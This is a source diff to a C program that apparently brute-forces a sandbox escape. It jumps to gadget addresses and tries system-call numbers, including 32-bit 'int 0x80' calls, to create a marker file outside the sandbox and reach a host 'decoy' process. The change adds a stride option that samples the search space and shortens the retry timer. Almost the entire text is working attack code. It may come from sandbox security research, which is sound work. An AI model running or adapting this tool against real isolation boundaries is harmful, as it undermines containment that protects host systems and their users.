@@ -25,7 +25,8 @@
 #include <unistd.h>
 
 #define TARGETS_MAX 4000
-#define CALLS	    463 /* numbers from 0 */
+#define CALLS	    463 /* numbers from 0, of which each stride-th is tried */
+#define TRIED	    ((CALLS + stride - 1) / stride)
 
 struct attempt {
 	uint64_t target;
@@ -37,6 +38,7 @@ static struct {
 } * shared;
 static uint64_t targets[TARGETS_MAX];
 static unsigned target_count;
+static long stride = 1;
 static sigjmp_buf back;
 static long decoy; /* a process of the host's, by its number there */
 static char path[] = "/tmp/escaped-by-jump";
@@ -132,7 +134,8 @@ static void attempts(long count, struct attempt (*attempt)(long))
 	catch_all();
 	while (shared->next < count) {
 		struct attempt now = attempt(shared->next);
-		struct itimerval soon = {{0, 50000}, {0, 50000}};
+		/* Where the stub holds it for its own, `int 0x80` is tried again and again. */
+		struct itimerval soon = {{0, 10000}, {0, 10000}};
 		uint64_t args[6];
 
 		shared->next++;
@@ -231,9 +234,11 @@ static struct attempt pair_attempt(long i)
 		0x40000000 | SYS_creat, 8 /* i386 creat */};
 	const unsigned few_count = sizeof(few) / sizeof(few[0]);
 
-	if (i < (long)platform_count * CALLS)
-		return (struct attempt){targets[i / CALLS], (uint64_t)(i % CALLS)};
-	i -= (long)platform_count * CALLS;
+	/* With a stride, other numbers for other pairs. */
+	if (i < (long)platform_count * TRIED)
+		return (struct attempt){
+			targets[i / TRIED], (uint64_t)((i % TRIED * stride + i / TRIED) % CALLS)};
+	i -= (long)platform_count * TRIED;
 	return (struct attempt){targets[platform_count + i / few_count], few[i % few_count]};
 }
 
@@ -241,15 +246,15 @@ static void pairs(void)
 {
 	platform_targets(pairs_between);
 	platform_count = target_count;
-	mapped_targets(platform_count + 300);
+	mapped_targets(platform_count + 300 / (unsigned)stride);
 	printf("pairs: %u of the platform, %u others\n", platform_count,
 		target_count - platform_count);
-	go_through((long)platform_count * CALLS + (long)(target_count - platform_count) * 6,
+	go_through((long)platform_count * TRIED + (long)(target_count - platform_count) * 6,
 		pair_attempt);
 }
 
 static uint64_t ranges[300];
-static unsigned range_count, stride = 1;
+static unsigned range_count;
 
 static void add_page(uint64_t start, uint64_t end)
 {
@@ -269,7 +274,7 @@ static struct attempt offset_attempt(long i)
 static void offsets(void)
 {
 	platform_targets(add_page);
-	printf("offsets: %u pages, each %u bytes\n", range_count, stride);
+	printf("offsets: %u pages, each %ld bytes\n", range_count, stride);
 	go_through((long)range_count * 4096 / stride, offset_attempt);
 }
 
@@ -279,9 +284,10 @@ static void offsets(void)
 
 static struct attempt own_attempt(long i)
 {
-	const uint64_t wide = i / CALLS % 2 ? 0x40000000 : 0;
+	const uint64_t wide = i / TRIED % 2 ? 0x40000000 : 0;
 
-	return (struct attempt){OWN + 16 * ((uint64_t)i / CALLS / 2), (uint64_t)(i % CALLS) | wide};
+	return (struct attempt){
+		OWN + 16 * ((uint64_t)i / TRIED / 2), (uint64_t)(i % TRIED * stride) | wide};
 }
 
 static void own(void)
@@ -299,7 +305,7 @@ static void own(void)
 	memcpy((void *)OWN, code, sizeof(code));
 	if (low != MAP_FAILED)
 		strcpy(low, path);
-	go_through(6 * CALLS, own_attempt);
+	go_through(6 * TRIED, own_attempt);
 }
 
 /* ---- to be no part of the sandbox any more ---- */
@@ -345,7 +351,7 @@ int main(int argc, char **argv)
 
 	setvbuf(stdout, NULL, _IONBF, 0);
 	decoy = argc > 2 ? atol(argv[2]) : 1;
-	stride = argc > 3 ? (unsigned)atoi(argv[3]) : 1;
+	stride = argc > 3 ? atol(argv[3]) : 1;
 	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	gadget_find();
 	if (strcmp(what, "pairs") == 0)
